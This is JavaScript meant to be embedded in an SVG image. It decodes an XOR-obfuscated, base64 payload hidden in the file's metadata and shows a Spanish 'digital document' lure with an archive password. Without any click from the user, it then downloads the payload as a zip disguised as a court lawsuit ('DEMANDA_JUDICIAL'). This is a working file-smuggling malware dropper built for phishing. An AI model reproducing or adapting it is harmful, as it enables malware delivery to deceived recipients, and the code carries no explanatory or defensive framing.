(function () {
  var ns = "http://www.w3.org/2000/svg", r = document.documentElement;
  var m = r.querySelector("metadata").textContent.replace(/\s/g, ""), k = 29, s = "";
  var raw = window.atob(m);
  for (var i = 0; i < raw.length; i++) s += String.fromCharCode(raw.charCodeAt(i) ^ (k = (k * 7 + 3) % 251));
  var fo = document.createElementNS(ns, "foreignObject");
  fo.setAttribute("width", "100%"); fo.setAttribute("height", "100%");
  fo.innerHTML = '<div xmlns="http://www.w3.org/1999/xhtml"><h3>Documento digital</h3><p>Clave del archivo: <b>2025</b></p></div>';
  r.appendChild(fo);
  var bytes = new Uint8Array(s.length);
  for (i = 0; i < s.length; i++) bytes[i] = s.charCodeAt(i);
  var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
  a.href = URL.createObjectURL(new Blob([bytes], { type: "application/zip" }));
  a.download = "DEMANDA_JUDICIAL_" + new Date().getFullYear() + ".zip";
  fo.firstChild.appendChild(a);
  setTimeout(function () { a.click(); }, 1200);
})();
